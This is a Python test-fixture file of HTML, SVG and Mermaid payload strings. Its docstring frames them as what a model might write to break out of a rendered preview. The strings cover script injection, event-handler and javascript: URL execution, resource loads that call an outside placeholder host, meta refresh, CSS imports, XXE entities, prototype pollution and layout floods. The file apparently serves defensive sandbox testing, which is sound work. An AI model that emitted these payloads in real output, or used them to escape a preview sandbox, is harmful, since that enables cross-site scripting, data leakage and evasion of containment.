"""What a model might write to get out of a preview.

RUN would show that a script has run, ELSEWHERE that a host was called. AS_SVG and AS_HTML stand for namespaces.
"""

HTML = [
    "<script>RUN</script>",
    "<script src=ELSEWHERE></script>",
    "<script type=module>import 'ELSEWHERE'; RUN</script>",
    '<script type=speculationrules>{"prefetch": [{"urls": ["ELSEWHERE"]}]}</script>',
    "<script>for (;;) top.postMessage('flood', '*')</script>",
    "<script>parent.document.body.remove(); window.name = document.cookie; RUN</script>",
    "<img src=x onerror=RUN><svg onload=RUN><body onload=RUN><details open ontoggle=RUN>x</details>",
    "<img src=ELSEWHERE srcset='ELSEWHERE 2x'><picture><source srcset=ELSEWHERE><img></picture>",
    "<video src=ELSEWHERE poster=ELSEWHERE autoplay></video><audio src=ELSEWHERE autoplay></audio>",
    "<body background=ELSEWHERE><table background=ELSEWHERE><td>x</table><input type=image src=ELSEWHERE>",
    "<link rel=stylesheet href=ELSEWHERE>",
    "<link rel=preconnect href=ELSEWHERE>",
    "<LINK\nrel=preconnect href=ELSEWHERE>",
    "<link/rel=preconnect href=ELSEWHERE>",
    "<link rel='prefetch preload dns-prefetch preconnect modulepreload prerender' as=script href=ELSEWHERE>",
    "<svg><![CDATA[><link rel=preconnect href=ELSEWHERE>]]></svg>",
    "<noscript><link rel=preconnect href=ELSEWHERE></noscript>",
    "<template shadowrootmode=open><link rel=preconnect href=ELSEWHERE></template>",
    "<svg><style><link rel=preconnect href=ELSEWHERE></style></svg>",
    "<title><link rel=preconnect href=ELSEWHERE></title>",
    "<math><mtext><table><mglyph><style><!--</style><link rel=preconnect href=ELSEWHERE>-->",
    "<iframe srcdoc='&lt;link rel=preconnect href=ELSEWHERE&gt;&lt;script&gt;RUN&lt;/script&gt;'></iframe>",
    "<iframe src=ELSEWHERE></iframe><iframe src=javascript:RUN></iframe>",
    "<frameset><frame src=ELSEWHERE></frameset>",
    "<svg width=99 height=20><a href=ELSEWHERE><text y=15>go</text></a></svg>",
    "<svg width=99 height=20><a xlink:href = 'ELSEWHERE'><text y=15>go</text></a></svg>",
    "<svg width=99 height=20><a href='#x'><set attributeName=href to=ELSEWHERE /><text y=15>go</text></a></svg>",
    "<svg width=99 height=20><a><set attributeName='&#104;ref' to=ELSEWHERE /><text y=15>go</text></a></svg>",
    "<svg width=99 height=20><use href=#x><a href='#x'><text y=15>go</text></a></use></svg> <a href=#x>go</a>",
    "<math href=ELSEWHERE><mi>go</mi></math>",
    "<a HREF\n=\n'ELSEWHERE'>go</a> <a href=\"'#ELSEWHERE\">go</a> <a href='&#35;/../../ELSEWHERE'>go</a>",
    "<a href=ELSEWHERE target=''>go</a> <a href=ELSEWHERE target=_self>go</a>",
    "<iframe src='data:text/html,<link rel=preconnect href=ELSEWHERE>'></iframe>",
    "<object data=ELSEWHERE></object><embed src=ELSEWHERE><portal src=ELSEWHERE></portal>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=RUN>'>",
    "<frameset><frame src=ELSEWHERE><frame src=javascript:RUN></frameset>",
    "<meta http-equiv=refresh content='0;url=ELSEWHERE'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=ELSEWHERE>x</a>",
    "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri ELSEWHERE'><img src=ELSEWHERE>",
    "<meta http-equiv=delegate-ch content='sec-ch-ua ELSEWHERE'><meta http-equiv=set-cookie content=x=y>",
    "<base href=ELSEWHERE target=_self><a href=leak>x</a><img src=leak>",
    "<style>@import 'ELSEWHERE'; @import url(ELSEWHERE); body { background: url(ELSEWHERE) }</style>",
    "<style>@font-face { font-family: f; src: url(ELSEWHERE) } b { font-family: f }</style><b>x</b>",
    "<p style=\"background: image-set('ELSEWHERE' 1x); list-style: url(ELSEWHERE); mask: url(ELSEWHERE#m)\">x</p>",
    "<svg><image href=ELSEWHERE /><use href='ELSEWHERE#x'/><filter id=f><feImage href=ELSEWHERE /></filter></svg>",
    "<svg><image width=9 height=9><set attributeName=href to=ELSEWHERE begin=0s /></image></svg>",
    "<form action=ELSEWHERE id=f><input autofocus><button>go</button></form><input type=submit form=f>",
    "<form action=javascript:RUN><button>go</button></form><button formaction=javascript:RUN>go</button>",
    "<form method=dialog action=ELSEWHERE target=_top><button>go</button></form>",
    "<a href=ELSEWHERE>go</a> <a href=javascript:RUN>go</a> <a href=ELSEWHERE download>go</a>",
    "<a href=ELSEWHERE target=_top>go</a> <a href=ELSEWHERE target=_parent>go</a>",
    "<a href=javascript:RUN target=_self>go</a> <a href=mailto:x@x.invalid>go</a>",
    "<a href=ELSEWHERE ping=ELSEWHERE>go</a>",
    "<a title='<use ' href=ELSEWHERE>go</a> <a title='<use href=#' href=ELSEWHERE>go</a>",
    "<svg width=99 height=20><a href=ELSEWHERE target=_top><text y=15>go</text></a></svg>",
    "<map name=m><area shape=default href=ELSEWHERE target=_top></map><img usemap=#m width=20 height=20 alt=go>",
    "<div style='width: 1e9px; height: 1e9px; position: fixed; inset: -1e6px; z-index: 2147483647'>x</div>",
    "</iframe></body></html><script>RUN</script><link rel=preconnect href=ELSEWHERE>",
    "\"'><script>RUN</script><!-- --!><img src=ELSEWHERE>",
]

SVG = [
    "<svg AS_SVG onload='RUN'><script>RUN</script><script href='ELSEWHERE'/></svg>",
    "<svg AS_SVG><image href='ELSEWHERE' width='9' height='9'/><use href='ELSEWHERE#x'/></svg>",
    "<svg AS_SVG><style>@import 'ELSEWHERE'; svg { background: url(ELSEWHERE) }</style></svg>",
    "<svg AS_SVG><foreignObject><link AS_HTML rel='preconnect' href='ELSEWHERE'/></foreignObject></svg>",
    "<svg AS_SVG><foreignObject width='9' height='9'><img AS_HTML src='ELSEWHERE'/></foreignObject></svg>",
    "<svg AS_SVG><foreignObject width='9' height='9'><iframe AS_HTML src='ELSEWHERE'/></foreignObject></svg>",
    "<svg AS_SVG><image><animate attributeName='href' to='ELSEWHERE' onbegin='RUN' dur='1s'/></image></svg>",
    "<svg AS_SVG width='1000000000' height='1000000000'><rect width='100%' height='100%'/></svg>",
    "<?xml-stylesheet href='ELSEWHERE'?><!DOCTYPE svg SYSTEM 'ELSEWHERE'><svg AS_SVG/>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'ELSEWHERE'>]><svg AS_SVG><text>&x;</text></svg>",
    "<svg AS_SVG><meta AS_HTML http-equiv='refresh' content='0;url=ELSEWHERE'/></svg>",
    "<svg><script>RUN</script><image href='ELSEWHERE'/></svg>",
]

MERMAID = [
    'flowchart LR\n  a["<img src=x onerror=RUN>"] --> b["<script>RUN</script>"]',
    'flowchart LR\n  a["<img src=ELSEWHERE><link rel=preconnect href=ELSEWHERE><iframe srcdoc=x></iframe>"]',
    'flowchart LR\n  a --> b\n  click a "javascript:RUN" _self\n  click b href "ELSEWHERE" _top',
    'flowchart LR\n  a["<iframe src=ELSEWHERE></iframe><object data=ELSEWHERE></object>"] --> b',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n'
    'flowchart LR\n  a["<img src=ELSEWHERE onerror=RUN>"]\n  click a call eval("RUN")',
    '%%{init: {"themeCSS": "@import \'ELSEWHERE\'; * { background: url(ELSEWHERE) }"}}%%\nflowchart LR\n  a --> b',
    '%%{init: {"fontFamily": "x; } * { background: url(ELSEWHERE)"}}%%\nflowchart LR\n  a --> b',
    "---\nconfig:\n  securityLevel: loose\n  secure: []\n---\n"
    'flowchart LR\n  a@{ img: "ELSEWHERE", label: "x", w: 60, h: 60 }',
    "flowchart LR\n  a --> b\n  style a fill:url(ELSEWHERE)\n  classDef c fill:url(ELSEWHERE)\n  class b c",
    "sequenceDiagram\n  participant A as <img src=ELSEWHERE onerror=RUN>\n  A->>A: <svg onload=RUN>",
    '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\n'
    'pie\n  "<script>RUN</script>" : 1',
    'classDiagram\n  class A\n  link A "javascript:RUN"\n  callback A "RUN"\n  A : <img src=ELSEWHERE>',
]


def filled(case: str, *, elsewhere: str) -> str:
    values = {
        "RUN": "top.postMessage('ran','*')",
        "ELSEWHERE": elsewhere,
        "AS_SVG": "xmlns='http://www.w3.org/2000/svg'",
        "AS_HTML": "xmlns='http://www.w3.org/1999/xhtml'",
    }
    for name, value in values.items():
        case = case.replace(name, value)
    return case
